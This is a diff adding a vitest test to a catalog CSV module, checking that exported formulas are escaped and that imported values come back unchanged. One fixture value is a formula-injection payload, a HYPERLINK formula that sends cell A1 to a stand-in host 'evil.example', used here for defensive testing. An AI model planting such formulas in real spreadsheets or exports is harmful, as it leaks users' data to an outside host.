@@ -1,5 +1,8 @@
 import { describe, expect, it } from "vitest";
 
+import { parse } from "csv-parse/sync";
+import { stringify } from "csv-stringify/sync";
+
 import { BASE_COLUMNS, checkHeader, formatMoney, parseMoney, parseRow } from "./csv-format";
 
 describe("catalog CSV format", () => {
@@ -33,6 +36,26 @@ describe("catalog CSV format", () => {
       [7, "title_uz"],
       [7, "attr:ram"],
       [7, "price"],
+    ]);
+  });
+
+  it("exports formulas as text and imports them back unchanged", () => {
+    const record = {
+      product_ref: "P1",
+      category: "c",
+      title_uz: '=HYPERLINK("https://evil.example/?"&A1,"click")',
+      description_uz: "+998 90 123 45 67",
+      sku: "-SKU-1",
+      price: "1000",
+    };
+    const csv = stringify([record], { header: true, escape_formulas: true });
+    expect(csv).toContain("'=HYPERLINK");
+    const [read] = parse(csv, { columns: true }) as Record<string, string>[];
+    const result = parseRow(read!, 2, () => ({ attributes: [] }));
+    expect("row" in result && [result.row.product.title.uz, result.row.product.description.uz, result.row.variant.sku]).toEqual([
+      record.title_uz,
+      record.description_uz,
+      record.sku,
     ]);
   });
 });
